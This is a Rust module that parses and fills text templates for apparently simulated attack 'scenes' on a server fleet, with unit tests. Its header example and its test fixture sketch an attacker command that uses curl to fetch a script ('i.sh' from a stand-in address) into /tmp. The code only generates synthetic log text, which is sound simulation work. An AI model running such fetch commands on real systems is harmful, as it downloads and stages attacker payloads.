//! `curl -o /tmp/{hex8} {g:url}` → pieces → text. The little language of the scene files.
//!
//! | written | stands for |
//! |---|---|
//! | `{a\|b\|c}` | one of them (`¦` in it stands for a pipe) |
//! | `{hex8}` `{alnum6}` `{dig4}` `{b64_40}` `{uuid}` `{word}` | random text of that length |
//! | `{n:1-100}` | a number |
//! | `{host}` `{ip}` `{peer}` `{client}` `{user}` | this host; its address; another host's; a stranger's; an account |
//! | `{date}` `{ymd}` `{hm}` `{epoch}` | the time of the event |
//! | `{g:name}` | a value of the gang or of its wave |
//! | `{planted}` `{planted_url}` | of what a gang shows of others: anything, an address to fetch |
//! | `{{` | a brace |
//!
//! A scope in front keeps a value: `{!1:hex8}` in one process, `{#1:hex8}` through a scene, `{@1:hex8}` on a host,
//! `{%1:hex8}` in an incident. Two choices of one scope, slot and length choose alike.

use super::gangs::PLANTED_FROM;
use super::random::{Random, scatter};

#[derive(Debug, Clone, Default)]
pub(super) struct Template(Vec<Piece>);

#[derive(Debug, Clone)]
enum Piece {
    Literal(Box<str>),
    Drawn { scope: Scope, kind: Kind },
    Fact(Fact),
    Gang(usize),
}

#[derive(Debug, Clone, Copy)]
enum Scope {
    Free,
    Process(u64),
    Scene(u64),
    Host(u64),
    Incident(u64),
}

#[derive(Debug, Clone)]
enum Kind {
    Choice(Vec<Box<str>>),
    Letters(&'static [u8], usize),
    Uuid,
    Word,
    Number(u64, u64),
    Peer,
    Client,
    User,
    Planted { urls: bool },
}

#[derive(Debug, Clone, Copy)]
enum Fact {
    Host,
    Ip,
    Date,
    Ymd,
    HourMinute,
    Epoch,
}

/// What a template is filled with.
pub(super) struct Filling<'a> {
    pub(super) host: &'a str,
    pub(super) ip: &'a str,
    pub(super) time_millis: i64,
    pub(super) process_seed: u64,
    pub(super) scene_seed: u64,
    pub(super) host_seed: u64,
    pub(super) incident_seed: u64,
    /// Hosts in the fleet: peers are drawn from them.
    pub(super) hosts: u64,
    /// Values of the gang, in the order of `names`.
    pub(super) gang: &'a [String],
}

const HEX: &[u8] = b"0123456789abcdef";
const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const LOWER: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const WORDS: &[&str] = &[
    "account",
    "admin",
    "alpha",
    "amber",
    "api",
    "archive",
    "assets",
    "atlas",
    "auth",
    "basket",
    "billing",
    "blog",
    "bridge",
    "cache",
    "cart",
    "catalog",
    "checkout",
    "clients",
    "cobalt",
    "config",
    "content",
    "core",
    "courier",
    "crm",
    "customer",
    "dashboard",
    "delta",
    "deploy",
    "docs",
    "events",
    "export",
    "feed",
    "files",
    "forum",
    "gateway",
    "graph",
    "harbor",
    "images",
    "import",
    "index",
    "inventory",
    "invoice",
    "jobs",
    "ledger",
    "legacy",
    "login",
    "mailer",
    "market",
    "media",
    "metrics",
    "mobile",
    "news",
    "notify",
    "orders",
    "partner",
    "payment",
    "portal",
    "pricing",
    "profile",
    "queue",
    "reports",
    "rest",
    "sales",
    "search",
    "session",
    "shop",
    "sites",
    "static",
    "stock",
    "store",
    "sync",
    "tickets",
    "token",
    "tracker",
    "upload",
    "users",
    "vault",
    "vendor",
    "wallet",
    "web",
];
const USERS: &[&str] =
    &["deploy", "ops", "lchen", "mwang", "root", "jsmith", "anna", "ubuntu", "ec2-user", "kzhao", "build", "dba"];

impl Template {
    /// `names`: what `{g:name}` may say; the error names the piece that could not be read.
    pub(super) fn parse(text: &str, names: &[&str]) -> Result<Self, String> {
        let mut pieces = Vec::new();
        let mut literal = String::new();
        let mut rest = text;
        while let Some(at) = rest.find('{') {
            literal.push_str(&rest[..at]);
            rest = &rest[at + 1..];
            if let Some(after) = rest.strip_prefix('{') {
                literal.push('{');
                rest = after;
                continue;
            }
            let end = rest.find('}').ok_or_else(|| format!("unclosed brace in `{text}`"))?;
            if !literal.is_empty() {
                pieces.push(Piece::Literal(std::mem::take(&mut literal).into()));
            }
            pieces.push(piece(&rest[..end], names).ok_or_else(|| format!("unknown piece `{{{}}}`", &rest[..end]))?);
            rest = &rest[end + 1..];
        }
        literal.push_str(rest);
        if !literal.is_empty() {
            pieces.push(Piece::Literal(literal.into()));
        }
        Ok(Self(pieces))
    }

    /// Appends the text. Only `Scope::Free` pieces draw from `random`.
    pub(super) fn fill(&self, with: &Filling<'_>, random: &mut Random, out: &mut String) {
        for piece in &self.0 {
            match piece {
                Piece::Literal(text) => out.push_str(text),
                Piece::Gang(index) => out.push_str(with.gang.get(*index).map_or("", String::as_str)),
                Piece::Fact(fact) => fill_fact(*fact, with, out),
                Piece::Drawn { scope, kind } => {
                    let seed = match scope {
                        Scope::Free => {
                            kind.fill(with, random, out);
                            continue;
                        }
                        Scope::Process(slot) => with.process_seed ^ slot,
                        Scope::Scene(slot) => with.scene_seed ^ slot,
                        Scope::Host(slot) => with.host_seed ^ slot,
                        Scope::Incident(slot) => with.incident_seed ^ slot,
                    };
                    kind.fill(with, &mut Random::new(scatter(seed)), out);
                }
            }
        }
    }
}

fn piece(text: &str, names: &[&str]) -> Option<Piece> {
    let fact = match text {
        "host" => Some(Fact::Host),
        "ip" => Some(Fact::Ip),
        "date" => Some(Fact::Date),
        "ymd" => Some(Fact::Ymd),
        "hm" => Some(Fact::HourMinute),
        "epoch" => Some(Fact::Epoch),
        _ => None,
    };
    if let Some(fact) = fact {
        return Some(Piece::Fact(fact));
    }
    if let Some(name) = text.strip_prefix("g:") {
        return names.iter().position(|it| *it == name).map(Piece::Gang);
    }
    let (scope, kind) = match text.as_bytes() {
        [mark @ (b'!' | b'#' | b'@' | b'%'), digit @ b'0'..=b'9', b':', ..] => {
            let slot = u64::from(*digit) << 48;
            let scope = match mark {
                b'!' => Scope::Process(slot),
                b'#' => Scope::Scene(slot),
                b'@' => Scope::Host(slot),
                _ => Scope::Incident(slot),
            };
            (scope, &text[3..])
        }
        _ => (Scope::Free, text),
    };
    Some(Piece::Drawn { scope, kind: kind_of(kind)? })
}

fn kind_of(text: &str) -> Option<Kind> {
    if text.contains('|') {
        return Some(Kind::Choice(text.split('|').map(|it| it.replace('¦', "|").into()).collect()));
    }
    if let Some((low, high)) = text.strip_prefix("n:").and_then(|it| it.split_once('-')) {
        return Some(Kind::Number(low.parse().ok()?, high.parse().ok()?));
    }
    for (name, letters) in [("hex", HEX), ("alnum", ALNUM), ("low", LOWER), ("dig", &HEX[..10]), ("b64_", BASE64)] {
        if let Some(length) = text.strip_prefix(name) {
            return Some(Kind::Letters(letters, length.parse().ok()?));
        }
    }
    match text {
        "uuid" => Some(Kind::Uuid),
        "word" => Some(Kind::Word),
        "peer" => Some(Kind::Peer),
        "client" => Some(Kind::Client),
        "user" => Some(Kind::User),
        "planted" => Some(Kind::Planted { urls: false }),
        "planted_url" => Some(Kind::Planted { urls: true }),
        _ => None,
    }
}

impl Kind {
    fn fill(&self, with: &Filling<'_>, random: &mut Random, out: &mut String) {
        match self {
            Self::Choice(texts) => out.push_str(&texts[random.below(texts.len() as u64) as usize]),
            Self::Letters(letters, length) => push_letters(letters, *length, random, out),
            Self::Uuid => {
                for (part, length) in [8, 4, 4, 4, 12].into_iter().enumerate() {
                    if part > 0 {
                        out.push('-');
                    }
                    push_letters(HEX, length, random, out);
                }
            }
            Self::Word => out.push_str(WORDS[random.below(WORDS.len() as u64) as usize]),
            Self::User => out.push_str(USERS[random.below(USERS.len() as u64) as usize]),
            Self::Planted { urls } => {
                let shown = with.gang.get(PLANTED_FROM..).unwrap_or_default();
                let (before, from) = shown.split_at(random.below(shown.len() as u64) as usize);
                let found = from.iter().chain(before).find(|it| !urls || it.starts_with("http"));
                out.push_str(found.map_or("", String::as_str));
            }
            Self::Number(low, high) => push_number(random.between(*low, *high), out),
            Self::Peer => push_address(random.below(with.hosts), out),
            Self::Client => {
                out.push_str(if random.permille(500) { "203.0.113." } else { "198.51.100." });
                push_number(random.between(1, 254), out);
            }
        }
    }
}

/// The address of the n-th host: private, as most servers' are.
pub(super) fn push_address(n: u64, out: &mut String) {
    out.push_str("10.");
    push_number(20 + ((n >> 16) & 0x7f), out);
    out.push('.');
    push_number((n >> 8) & 0xff, out);
    out.push('.');
    push_number(n & 0xff, out);
}

fn push_letters(letters: &[u8], length: usize, random: &mut Random, out: &mut String) {
    let mut bits = 0;
    for at in 0..length {
        if at % 8 == 0 {
            bits = random.next();
        }
        let letter = ((bits & 0xff) * letters.len() as u64) >> 8;
        bits >>= 8;
        out.push(char::from(letters[letter as usize]));
    }
}

pub(super) fn push_number(mut number: u64, out: &mut String) {
    let mut digits = [0u8; 20];
    let mut at = digits.len();
    loop {
        at -= 1;
        digits[at] = b'0' + (number % 10) as u8;
        number /= 10;
        if number == 0 {
            break;
        }
    }
    out.extend(digits[at..].iter().map(|it| char::from(*it)));
}

fn fill_fact(fact: Fact, with: &Filling<'_>, out: &mut String) {
    match fact {
        Fact::Host => out.push_str(with.host),
        Fact::Ip => out.push_str(with.ip),
        Fact::Epoch => push_number(with.time_millis.unsigned_abs() / 1000, out),
        Fact::Date | Fact::Ymd | Fact::HourMinute => {
            let text = ringleader_model::time::Timestamp::from_millis(with.time_millis).to_string();
            match fact {
                Fact::Date => out.push_str(&text[..10]),
                Fact::Ymd => out.extend(text[..10].chars().filter(|it| *it != '-')),
                _ => out.extend(text[11..16].chars().filter(|it| *it != ':')),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filled(text: &str, scene_seed: u64) -> String {
        let gang = ["http://192.0.2.7/i.sh".to_owned()];
        let with = Filling {
            host: "web-1",
            ip: "10.20.0.1",
            time_millis: 1_772_323_200_123,
            process_seed: 4,
            scene_seed,
            host_seed: 5,
            incident_seed: 6,
            hosts: 300,
            gang: &gang,
        };
        let mut out = String::new();
        Template::parse(text, &["url"]).unwrap().fill(&with, &mut Random::new(scene_seed), &mut out);
        out
    }

    #[test]
    fn braces_facts_and_gang_values_are_filled_in() {
        let text = "awk '{{print $1}' {host} {ip} {date} {ymd} {hm} {epoch} {g:url}";
        let want = "awk '{print $1}' web-1 10.20.0.1 2026-03-01 20260301 0000 1772323200 http://192.0.2.7/i.sh";
        assert_eq!(filled(text, 1), want);
    }

    #[test]
    fn a_scoped_value_stays_and_an_unscoped_one_does_not() {
        let text = filled("{#1:hex64} {#1:hex64} {hex64}", 1);
        let parts: Vec<&str> = text.split(' ').collect();
        assert_eq!((parts[0], parts[0].len()), (parts[1], 64));
        assert_ne!(parts[0], parts[2]);
        assert_ne!(filled("{#1:hex64}", 1), filled("{#1:hex64}", 2));
        assert_eq!(filled("{@1:hex64}{%1:alnum9}", 1), filled("{@1:hex64}{%1:alnum9}", 2));
    }

    #[test]
    fn what_cannot_be_read_is_named() {
        assert_eq!(Template::parse("a {nonsense}", &[]).unwrap_err(), "unknown piece `{nonsense}`");
        assert_eq!(Template::parse("a {g:key}", &["url"]).unwrap_err(), "unknown piece `{g:key}`");
        assert_eq!(Template::parse("a {n:1-2", &[]).unwrap_err(), "unclosed brace in `a {n:1-2`");
    }
}
